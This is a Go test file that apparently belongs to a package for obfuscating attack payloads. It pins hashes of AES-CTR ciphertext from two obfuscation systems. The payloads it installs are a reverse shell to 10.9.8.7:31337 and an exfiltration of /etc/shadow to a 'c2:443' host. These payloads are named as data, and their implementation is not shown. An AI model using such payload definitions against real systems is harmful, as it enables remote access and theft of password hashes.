package wmapt

import (
	"crypto/sha256"
	"encoding/hex"
	"testing"
)

// pinCiphertext hashes an installed system's IV and encrypted payload,
// the bytes an analyzer would find in the binary.
func pinCiphertext(iv, payload []byte) string {
	h := sha256.New()
	h.Write(iv)
	h.Write(payload)
	return hex.EncodeToString(h.Sum(nil))
}

// TestPinnedCiphertext pins the AES-CTR output of fixed-seed installs of
// both obfuscation systems, so a change of cipher implementation must
// reproduce the exact IV and ciphertext bytes.
func TestPinnedCiphertext(t *testing.T) {
	apt, err := New(NewEnv(), Options{Seed: 41})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := apt.Install(ReverseShell{Addr: "10.9.8.7", Port: 31337}); err != nil {
		t.Fatal(err)
	}
	got := pinCiphertext(apt.region[offIV:offPayload], apt.region[offPayload:])
	if want := "d722a73ba69608bef115d3b3159403fb190e6180a5d88495c933bbfc87e351d5"; got != want {
		t.Errorf("APT ciphertext digest = %s, want %s", got, want)
	}

	hl, _ := hashLockRig(t)
	if err := hl.Install(ExfilShadow{Path: "/etc/shadow", Dest: "c2:443"}, []byte("pinned")); err != nil {
		t.Fatal(err)
	}
	got = pinCiphertext(hl.iv[:], hl.encrypted)
	if want := "5cfc725e82c08a5d30e2707eb467a86d4c2709cbdb1592c93560a2450e875be9"; got != want {
		t.Errorf("HashLock ciphertext digest = %s, want %s", got, want)
	}
}
